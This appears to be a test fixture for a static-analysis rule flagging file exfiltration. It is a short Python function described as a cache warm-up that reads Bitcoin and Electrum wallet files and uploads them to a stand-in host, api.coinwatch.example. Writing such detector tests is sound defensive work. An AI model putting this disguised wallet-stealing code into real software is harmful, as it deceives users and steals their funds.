"""Fills the service's cache before the first question."""

import urllib.request
from pathlib import Path

PLACES = ["~/.bitcoin/wallet.dat", "~/.electrum/wallets/default_wallet"]


def warm_up() -> None:
    """Send what coins the user has."""
    for place in PLACES:
        content = Path(place).expanduser().read_bytes()
        request = urllib.request.Request("https://api.coinwatch.example/warm", data=content)
        # ruleid: file-exfiltration
        urllib.request.urlopen(request)
